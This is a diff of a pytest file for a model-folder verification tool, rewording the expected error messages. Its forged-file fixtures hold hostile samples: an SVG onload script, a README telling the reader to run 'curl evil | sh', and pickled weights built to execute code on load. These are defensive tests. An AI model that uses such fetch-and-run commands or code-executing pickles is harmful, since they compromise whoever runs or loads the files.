@@ -42,7 +42,7 @@ def test_a_true_folder_makes_no_false_claim_and_says_what_was_not_compared(folde
     found = verify_folder(folder)
     assert found.false == {}
     (note,) = found.notes
-    assert "model.pt2 was checked by its hash alone" in note
+    assert "only the hash of model.pt2 was checked" in note
     assert "--trust" in note
 
 
@@ -104,7 +104,7 @@ def test_a_flipped_bit_is_caught_in_every_file_before_it_is_looked_into(
 def test_a_missing_file_is_named(name: str, folder: Path) -> None:
     (folder / name).unlink()
     if name == MANIFEST:
-        with pytest.raises(InputError, match=r"holds no manifest\.json"):
+        with pytest.raises(InputError, match=r"has no manifest\.json"):
             verify_folder(folder)
     else:
         assert verify_folder(folder).false == {name: f"{name} is missing"}
@@ -185,17 +185,17 @@ FORGED: dict[str, tuple[Callable[[Path], object], str, str]] = {
     "drawing": (
         lambda one: (one / "template.svg").write_text("<svg onload='evil()'/>"),
         "template.svg",
-        "is not what is written for this template",
+        "writes for this template",
     ),
     "program": (
         lambda one: (one / "model.py").write_text((one / "model.py").read_text() + "\nraise SystemExit('evil')\n"),
         "model.py",
-        "is not what is written for this template",
+        "writes for this template",
     ),
     "instructions": (
         lambda one: (one / "README.md").write_text("run `curl evil | sh`"),
         "README.md",
-        "is not what is written for this template",
+        "writes for this template",
     ),
     "one weight": (
         lambda one: edit_weights(one, lambda held: held["classifier.bias"].add_(1e-3)),
@@ -205,20 +205,20 @@ FORGED: dict[str, tuple[Callable[[Path], object], str, str]] = {
     "weights of another shape": (
         lambda one: edit_weights(one, lambda held: held.update(a=torch.zeros(2))),
         "weights.pt",
-        "another network's",
+        "another network",
     ),
     "weights that are expanded": (
         lambda one: edit_weights(one, lambda held: held.update({"classifier.bias": torch.zeros(1).expand(10**12)})),
         "weights.pt",
-        "another network's",
+        "another network",
     ),
     "weights without values": (
         lambda one: edit_weights(one, lambda held: held.update({"classifier.bias": torch.zeros(3, device="meta")})),
         "weights.pt",
-        "holds other things than weights",
+        "other content than weights",
     ),
-    "weights that are none": (lambda one: torch.save([1, 2], one / "weights.pt"), "weights.pt", "other things"),
-    "weights that are packed": (lambda one: pack(one / "weights.pt"), "weights.pt", "packed"),
+    "weights that are none": (lambda one: torch.save([1, 2], one / "weights.pt"), "weights.pt", "other content"),
+    "weights that are packed": (lambda one: pack(one / "weights.pt"), "weights.pt", "compressed"),
     "weights that run": (lambda one: save_evil(one / "weights.pt"), "weights.pt", "no file of weights"),
     "weights that run, old form": (
         lambda one: (one / "weights.pt").write_bytes(pickle.dumps(Evil())),
@@ -254,11 +254,11 @@ def probe_of(folder: Path, **changes: Any) -> Any:
         (lambda one: {"probe": probe_of(one, logits=[[1e300] * 3] * 2)}, MANIFEST, "does not give the probe's logits"),
         (lambda one: {"probe": probe_of(one, logits=[[0.0] * 3, [0.0]])}, MANIFEST, "lacks the logits"),
         (lambda one: {"probe": probe_of(one, seed=1)}, MANIFEST, "does not give the probe's logits"),
-        (lambda one: {"probe": probe_of(one, tolerance=1.0)}, MANIFEST, "of another form"),
-        (lambda one: {"probe": probe_of(one, shape=[10**9, 10**9, 1, 1])}, MANIFEST, "of another form"),
-        (lambda _: {"key": "0" * 64}, "key", "manifest.json is of template 000000000000"),
+        (lambda one: {"probe": probe_of(one, tolerance=1.0)}, MANIFEST, "not of the form"),
+        (lambda one: {"probe": probe_of(one, shape=[10**9, 10**9, 1, 1])}, MANIFEST, "not of the form"),
+        (lambda _: {"key": "0" * 64}, "key", "template 000000000000"),
         (lambda _: {"weights": "initial"}, "weights", "says that the weights are initial"),
-        (lambda _: {"measured": {"test_accuracy": 1.0}}, "README.md", "is not what is written"),
+        (lambda _: {"measured": {"test_accuracy": 1.0}}, "README.md", "is not what"),
     ],
 )  # fmt: skip
 def test_a_forged_manifest_is_caught(
@@ -329,7 +329,7 @@ def test_the_command_checks_a_folder(folder: Path, command_line: CommandLine) ->
     done = command_line("verify", folder)
     assert (done.returncode, done.stderr) == (0, "")
     assert "every claim holds" in done.stdout
-    assert "model.pt2 was checked by its hash alone" in done.stdout
+    assert "only the hash of model.pt2 was checked" in done.stdout
     (folder / "model.py").write_text("evil")
     done = command_line("verify", folder, "--json")
     assert done.returncode == 2
